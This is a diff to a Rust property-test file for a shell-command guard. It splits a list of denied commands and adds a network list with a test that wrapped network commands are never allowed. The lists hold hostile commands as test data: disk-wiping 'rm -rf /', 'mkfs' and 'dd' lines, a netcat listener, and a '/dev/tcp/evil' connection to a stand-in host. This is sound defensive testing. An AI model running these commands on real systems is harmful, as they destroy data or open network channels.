@@ -28,7 +28,6 @@ const DENIED: &[&str] = &[
     "rm -rf /",
     "rm -fr ~/",
     "sudo id",
-    "curl http://example.com",
     "mkfs.ext4 /dev/sda1",
     "dd if=/dev/zero of=/dev/sda",
     "echo x > /dev/sda",
@@ -36,7 +35,14 @@ const DENIED: &[&str] = &[
     "shutdown -h now",
     "kill -9 -1",
     "su root",
+];
+
+/// Network commands: asked while the network is blocked, as a caution a user's allow rule lifts.
+const NETWORK: &[&str] = &[
+    "curl http://example.com",
     "nc -l 4444",
+    "git fetch",
+    "echo hi > /dev/tcp/evil/80",
 ];
 
 /// Read-only commands to put around a denied one.
@@ -133,6 +139,25 @@ proptest! {
         let line = parts.join(separator);
         let analysis = guard().analyze(&line);
         prop_assert_eq!(analysis.verdict().decision, Decision::Deny, "{}\n{:#?}", line, analysis);
+    }
+
+    #[test]
+    fn a_network_command_is_never_allowed_however_wrapped(
+        network in prop::sample::select(NETWORK),
+        wrappers in prop::collection::vec(any::<u8>(), 0..4),
+        before in prop::collection::vec(prop::sample::select(BENIGN), 0..4),
+        separator in prop::sample::select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
+    ) {
+        let mut command = network.to_owned();
+        for how in wrappers {
+            command = wrap(command, how);
+        }
+        let mut parts: Vec<String> = before.iter().map(|s| (*s).to_owned()).collect();
+        parts.push(command);
+        let line = parts.join(separator);
+        let analysis = guard().analyze(&line);
+        prop_assert_ne!(analysis.verdict().decision, Decision::Allow, "{}", line);
+        prop_assert!(analysis.findings.iter().any(|f| f.caution), "{}\n{:#?}", line, analysis.findings);
     }
 
     #[test]
